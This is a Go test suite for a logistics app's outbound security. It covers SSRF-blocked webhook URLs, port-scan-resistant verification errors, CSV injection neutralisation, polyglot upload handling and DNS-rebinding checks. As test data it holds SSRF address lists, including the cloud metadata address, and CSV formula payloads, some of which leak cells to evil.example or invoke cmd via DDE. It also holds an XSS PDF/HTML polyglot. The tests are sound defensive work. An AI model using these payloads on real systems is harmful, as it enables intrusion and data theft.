package apptest_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/uuid"
	"github.com/uptrace/bun"

	"github.com/haulgraph/haulgraph/app"
	"github.com/haulgraph/haulgraph/apptest"
	"github.com/haulgraph/haulgraph/domain"
	"github.com/haulgraph/haulgraph/domain/webhooks"
	"github.com/haulgraph/haulgraph/storage/seed"
	"github.com/haulgraph/haulgraph/storage/seedtest"
	"github.com/haulgraph/haulgraph/testkit"
)

// What the server reaches and writes on a tenant's behalf: webhook
// addresses, delivery reasons, the statement export's cells, document names.

// outboundEnv is startEnv with a configuration and the tenant's id.
func outboundEnv(t *testing.T, configure func(*app.Config)) (*env, uuid.UUID) {
	t.Helper()
	e := &env{log: &syncBuffer{}}
	url, res := seedtest.URL(t, seed.Options{Tenant: "acme", Scale: 1})
	e.srv = apptest.Start(t, apptest.Options{DatabaseURL: url, Log: e.log, Configure: configure})
	tn := apptest.Tenant{ID: res.TenantID, Slug: "acme", SubsidiaryID: res.SubsidiaryID}
	e.token = e.srv.Token(t, tn, domain.ScopeDriverRead, domain.ScopeLoadRead, domain.ScopeLoadUpdate, domain.ScopeWebhookManage)
	e.load, e.sub = res.LoadWithTrips, res.SubsidiaryID.String()
	return e, res.TenantID
}

type restWebhook struct {
	Id, Url, State, StateReason string //nolint:revive
}

func (e *env) createWebhook(t *testing.T, url string) (*http.Response, []byte) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"Name": "hook", "Url": url, "EventTypes": []string{"load.changed"}, "SubsidiaryId": e.sub})
	return e.send(t, hostile{method: "POST", path: "/api/p/v1/webhooks", body: string(body)})
}

func (e *env) enableWebhook(t *testing.T, id string) restWebhook {
	t.Helper()
	res, b := e.send(t, hostile{method: "POST", path: "/api/p/v1/webhooks/" + id + "/enable"})
	var w restWebhook
	if res.StatusCode != 200 || json.Unmarshal(b, &w) != nil {
		t.Fatalf("enable: %d %s", res.StatusCode, b)
	}
	return w
}

func (e *env) webhooks(t *testing.T) []restWebhook {
	t.Helper()
	res, b := e.send(t, hostile{method: "GET", path: "/api/p/v1/webhooks"})
	var ws []restWebhook
	if res.StatusCode != 200 || json.Unmarshal(b, &ws) != nil {
		t.Fatalf("list: %d %s", res.StatusCode, b)
	}
	return ws
}

// ssrfURLs reach inside through every form that embeds or translates an
// IPv4 address, and through the special-purpose ranges of both families.
// The development flag is on (apptest's default): plain loopback is allowed
// there, so 127.0.0.1 and ::1 themselves are not in the list.
var ssrfURLs = []string{
	// NAT64, well-known prefix and local-use prefix.
	"https://[64:ff9b::7f00:1]/h", "https://[64:ff9b::a9fe:a9fe]/h", "https://[64:ff9b::a00:1]/h",
	"https://[64:ff9b::c0a8:101]/h", "https://[64:ff9b:1::a00:1]/h", "https://[64:ff9b:1:ffff::5db8:d822]/h",
	// 6to4.
	"https://[2002:7f00:1::]/h", "https://[2002:a9fe:a9fe::1]/h", "https://[2002:5db8:d822::1]/h",
	// IPv4-compatible.
	"https://[::127.0.0.1]/h", "https://[::a9fe:a9fe]/h", "https://[::10.0.0.1]/h",
	// IPv4-mapped.
	"https://[::ffff:169.254.169.254]/h", "https://[::ffff:a00:1]/h",
	// SIIT (IPv4-translated).
	"https://[::ffff:0:7f00:1]/h", "https://[::ffff:0:a9fe:a9fe]/h",
	// Teredo (server 65.54.227.120, client 192.0.2.45) and the rest of 2001::/23.
	"https://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/h", "https://[2001::1]/h", "https://[2001:2::1]/h",
	// IPv6 special-purpose.
	"https://[::]/h", "https://[100::1]/h", "https://[2001:db8::1]/h", "https://[3fff::1]/h", "https://[5f00::1]/h",
	"https://[fc00::1]/h", "https://[fd12:3456::1]/h", "https://[fe80::1]/h", "https://[fec0::1]/h", "https://[ff02::1]/h",
	// IPv4 special-purpose.
	"https://0.0.0.1/h", "https://10.0.0.1/h", "https://100.64.0.1/h", "https://169.254.169.254/h",
	"https://172.16.0.1/h", "https://192.0.0.1/h", "https://192.0.2.1/h", "https://192.88.99.1/h",
	"https://192.168.1.1/h", "https://198.18.0.1/h", "https://198.51.100.1/h", "https://203.0.113.1/h",
	"https://224.0.0.1/h", "https://240.0.0.1/h", "https://255.255.255.255/h",
}

// No address inside is saved, by REST create, REST update of an Active
// webhook or GraphQL create: each is a 400 / BAD_USER_INPUT naming the URL.
func TestOutboundWebhookAddressesRefused(t *testing.T) {
	t.Parallel()
	e, _ := outboundEnv(t, nil)
	recv := testkit.NewReceiver(t)
	res, b := e.createWebhook(t, recv.URL+"/h")
	var active restWebhook
	if res.StatusCode != 201 || json.Unmarshal(b, &active) != nil {
		t.Fatalf("create: %d %s", res.StatusCode, b)
	}
	if w := e.enableWebhook(t, active.Id); w.State != "Active" {
		t.Fatalf("receiver not verified: %+v", w)
	}
	create := `mutation($in:CreateWebhookInput!){createWebhook(input:$in){secret}}`
	refused := 0
	for _, u := range ssrfURLs {
		t.Run(u, func(t *testing.T) {
			res, b := e.createWebhook(t, u)
			if res.StatusCode != 400 {
				t.Errorf("REST create: %d %.300s", res.StatusCode, b)
			} else {
				refused++
				hostile{status: 400, format: problemJSON, want: "Url"}.check(t, res, b)
			}
			patch, _ := json.Marshal(map[string]any{"Url": u})
			res, b = e.send(t, hostile{method: "PATCH", path: "/api/p/v1/webhooks/" + active.Id, body: string(patch)})
			if res.StatusCode != 400 {
				t.Errorf("REST update of the Active webhook: %d %.300s", res.StatusCode, b)
			} else {
				refused++
				hostile{status: 400, format: problemJSON, want: "Url"}.check(t, res, b)
			}
			vars := map[string]any{"in": map[string]any{"name": "hook", "url": u, "eventTypes": []string{"load.changed"}, "subsidiaryId": e.sub}}
			res, b = e.send(t, hostile{method: "POST", path: "/graphql", body: gqlBody(create, vars)})
			if !bytes.Contains(b, []byte(domain.CodeInvalid)) {
				t.Errorf("GraphQL create: %d %.300s", res.StatusCode, b)
			} else {
				refused++
				hostile{status: 200, format: graphQL, want: string(domain.CodeInvalid)}.check(t, res, b)
			}
		})
	}
	t.Logf("%d of %d attempts refused", refused, 3*len(ssrfURLs))
	ws := e.webhooks(t)
	if len(ws) != 1 || ws[0].Url != recv.URL+"/h" || ws[0].State != "Active" {
		t.Errorf("saved: %+v", ws)
	}
}

// Under the development flag (loopback allowed) a verification's reason
// must not tell a closed port from an HTTP server from another listener:
// otherwise enabling webhooks is a port scanner.
func TestOutboundStateReasonNoPortScan(t *testing.T) {
	t.Parallel()
	e, _ := outboundEnv(t, nil)

	closed, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closedAddr := closed.Addr().String()
	closed.Close()

	web := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(web.Close)

	other := testkit.OtherProtocol(t) // a banner, then it hangs up

	targets := map[string]string{"closed port": "http://" + closedAddr + "/h", "HTTP server": web.URL + "/h",
		"other listener": "http://" + other + "/h"}
	reasons := map[string]string{}
	for name, u := range targets {
		res, b := e.createWebhook(t, u)
		var w restWebhook
		if res.StatusCode != 201 || json.Unmarshal(b, &w) != nil {
			t.Fatalf("create %s: %d %s", name, res.StatusCode, b)
		}
		got := e.enableWebhook(t, w.Id)
		if got.State != "FailedVerification" {
			t.Fatalf("%s: %+v", name, got)
		}
		reasons[name] = got.StateReason
	}
	t.Logf("reasons: %q", reasons)
	if reasons["closed port"] != reasons["HTTP server"] || reasons["closed port"] != reasons["other listener"] {
		t.Errorf("the reasons tell the listeners apart: %q", reasons)
	}
}

// csvPayloads are text a tenant's data may carry that a spreadsheet would
// run as a formula (OWASP, CSV injection).
var csvPayloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Details")`, `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `=1+1`, `+1`, `-1`, `@A1`,
	`=DDE("cmd";"/C calc";"!A0")`, "=IMPORTXML(CONCAT(\"http://evil.example/?\", A2), \"//a\")", `-`, `=`,
}

// The statement export is safe to open in a spreadsheet: no text cell
// starts with a formula character in csv and csv&bom=true; raw=true gives
// the stored bytes; amounts (negative ones too) stay numbers; NDJSON is
// unchanged.
func TestOutboundCSVInjection(t *testing.T) {
	t.Parallel()
	e, tenant := outboundEnv(t, nil)
	const cells = 120
	err := e.srv.DB.InTenant(context.Background(), tenant, func(ctx context.Context, tx bun.Tx) error {
		rows, err := tx.QueryContext(ctx, `SELECT l.id FROM statement_line_items l JOIN settlement_statements s ON s.id = l.statement_id
			WHERE s.status IN ('Processed','Failed') AND s.statement_date BETWEEN '2025-01-01' AND '2025-12-31' ORDER BY l.id LIMIT ?`, cells/2)
		if err != nil {
			return err
		}
		var ids []uuid.UUID
		for rows.Next() {
			var id uuid.UUID
			if err := rows.Scan(&id); err != nil {
				return err
			}
			ids = append(ids, id)
		}
		if err := rows.Err(); err != nil {
			return err
		}
		if len(ids) != cells/2 {
			return fmt.Errorf("only %d line items", len(ids))
		}
		// Two text cells per line (title, category) and a negative amount.
		for i, id := range ids {
			if _, err := tx.ExecContext(ctx, `UPDATE statement_line_items SET title = ?, category = ?, amount = -125.50 WHERE id = ?`,
				csvPayloads[(2*i)%len(csvPayloads)], csvPayloads[(2*i+1)%len(csvPayloads)], id); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	const export = "/api/p/v1/driver-settlement-statements/export?start=2025-01-01&end=2025-12-31&format="
	read := func(query string) [][]string {
		t.Helper()
		res, b := e.send(t, hostile{method: "GET", path: export + query})
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d %.300s", query, res.StatusCode, b)
		}
		b = bytes.TrimPrefix(b, []byte("\uFEFF"))
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", query, err)
		}
		return recs
	}
	isPayload := map[string]bool{}
	for _, p := range csvPayloads {
		isPayload[p] = true
	}
	for _, q := range []string{"csv", "csv&bom=true", "csv&raw=false", "csv&raw=true"} {
		recs := read(q)
		col := columns(recs[0])
		formulas, payloadCells, asStored, negatives := 0, 0, 0, 0
		for _, r := range recs[1:] {
			for _, c := range []string{"LineTitle", "LineCategory"} {
				v := r[col[c]]
				if isPayload[v] {
					asStored++
				}
				if isPayload[v] || isPayload[strings.TrimPrefix(v, "'")] {
					payloadCells++
				}
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					formulas++
				}
			}
			if a := r[col["LineAmount"]]; a != "" {
				if _, err := strconv.ParseFloat(a, 64); err != nil {
					t.Errorf("%s: LineAmount %q is not a number", q, a)
				}
				if strings.HasPrefix(a, "-125.5") {
					negatives++
				}
			}
		}
		t.Logf("%s: %d of %d payload cells start with a formula character", q, formulas, payloadCells)
		if payloadCells != cells || negatives != cells/2 {
			t.Errorf("%s: %d payload cells (want %d), %d negative amounts (want %d)", q, payloadCells, cells, negatives, cells/2)
		}
		if q == "csv&raw=true" {
			// For BI tools: the stored bytes.
			if asStored != cells {
				t.Errorf("%s: %d cells as stored, want %d", q, asStored, cells)
			}
		} else if formulas != 0 {
			t.Errorf("%s: %d formula cells, want 0", q, formulas)
		}
	}
	// NDJSON is not a spreadsheet format: unchanged.
	res, b := e.send(t, hostile{method: "GET", path: export + "ndjson"})
	if res.StatusCode != 200 || !bytes.Contains(b, []byte(`"=cmd|' /C calc'!A0"`)) {
		t.Errorf("ndjson: %d, payload not as stored", res.StatusCode)
	}
	res, b = e.send(t, hostile{method: "GET", path: export + "ndjson&raw=true"})
	hostile{status: 400, format: problemJSON, want: "raw"}.check(t, res, b)
	res, b = e.send(t, hostile{method: "GET", path: export + "csv&raw=maybe"})
	hostile{status: 400, format: problemJSON, want: "raw"}.check(t, res, b)
}

func columns(header []string) map[string]int {
	m := map[string]int{}
	for i, h := range header {
		m[strings.TrimPrefix(h, "\uFEFF")] = i
	}
	return m
}

// polyglot is a PDF (by its first bytes) that is also an HTML page.
const polyglot = "%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n"

// A stored name's extension follows the sniffed type, whatever the name
// says; downloads are sandboxed attachments.
func TestOutboundDocumentNames(t *testing.T) {
	t.Parallel()
	e, _ := outboundEnv(t, nil)
	upload := func(name string) string {
		t.Helper()
		body := multipartBody(formField("DocumentType", "Bill of Lading"), formField("FileName", name),
			`Content-Disposition: form-data; name="File"; filename="f"`+"\r\nContent-Type: text/html\r\n\r\n"+polyglot)
		res, b := e.send(t, hostile{method: "POST", path: "/api/p/v1/loads/" + e.load + "/document", header: multipartCT, body: body})
		var d struct{ AttachmentPath string }
		if res.StatusCode != 200 || json.Unmarshal(b, &d) != nil {
			t.Fatalf("upload %q: %d %s", name, res.StatusCode, b)
		}
		return d.AttachmentPath
	}
	active := 0
	for _, name := range []string{"x.html", "x.htm", "x.svg", "x.js", "x.hta", "x.xhtml", "x.exe", "x.pdf.html", "x", "x.PDF"} {
		got := upload(name)
		if !strings.HasSuffix(strings.ToLower(got), ".pdf") {
			active++
			t.Errorf("%q stored as %q, want a .pdf name", name, got)
		}
	}
	t.Logf("%d names kept an extension the bytes are not", active)

	var got struct {
		Data struct {
			Load struct {
				Documents []struct{ DownloadURL string }
			}
		}
	}
	_, b := e.send(t, hostile{method: "POST", path: "/graphql", body: gqlBody(`query($n:String!){load(loadNumber:$n){documents{downloadUrl}}}`, map[string]any{"n": e.load})})
	if err := json.Unmarshal(b, &got); err != nil || len(got.Data.Load.Documents) == 0 {
		t.Fatalf("documents: %s", b)
	}
	u := got.Data.Load.Documents[0].DownloadURL
	if !strings.HasPrefix(u, "http") {
		u = e.srv.URL + u
	}
	res, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	h := res.Header
	if res.StatusCode != 200 || string(body) != polyglot {
		t.Fatalf("download: %d %q", res.StatusCode, body)
	}
	if csp := h.Get("Content-Security-Policy"); csp != "sandbox; default-src 'none'" {
		t.Errorf("Content-Security-Policy %q", csp)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Content-Type") != "application/pdf" {
		t.Errorf("headers %v", h)
	}
	if cd := h.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.HasSuffix(strings.ToLower(strings.TrimSuffix(cd, `"`)), ".pdf") {
		t.Errorf("Content-Disposition %q", cd)
	}
}

// A name is checked when the URL is saved and again, by the dialer, when it
// is dialled: a name that pointed outside when saved and inside when dialled
// never reaches the inside.
func TestOutboundDialTimeCheck(t *testing.T) {
	t.Parallel()
	dns := &testkit.Resolver{}
	dns.Set("93.184.216.34")
	e, _ := outboundEnv(t, func(c *app.Config) { c.DevAllowHTTPWebhooks, c.WebhookResolver = false, dns })

	// An internal service on this host; every connection to it counts.
	inside, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var hits atomic.Int32
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := inside.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { inside.Close(); <-done })
	_, port, _ := net.SplitHostPort(inside.Addr().String())
	u := "https://hooks.rebind.example:" + port + "/h"

	// Saved while the name points outside.
	res, b := e.createWebhook(t, u)
	var w restWebhook
	if res.StatusCode != 201 || json.Unmarshal(b, &w) != nil {
		t.Fatalf("create: %d %s", res.StatusCode, b)
	}
	// Then it points inside, by every form.
	for _, a := range []string{"127.0.0.1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "::127.0.0.1", "2002:7f00:1::"} {
		dns.Set(a)
		got := e.enableWebhook(t, w.Id)
		if got.State != "FailedVerification" || got.StateReason != webhooks.VerificationFailed {
			t.Errorf("%s: %+v", a, got)
		}
		// And a URL saved while the name points inside is refused.
		res, b := e.createWebhook(t, u)
		hostile{status: 400, format: problemJSON, want: "Url"}.check(t, res, b)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the internal service got %d connections", n)
	}
}
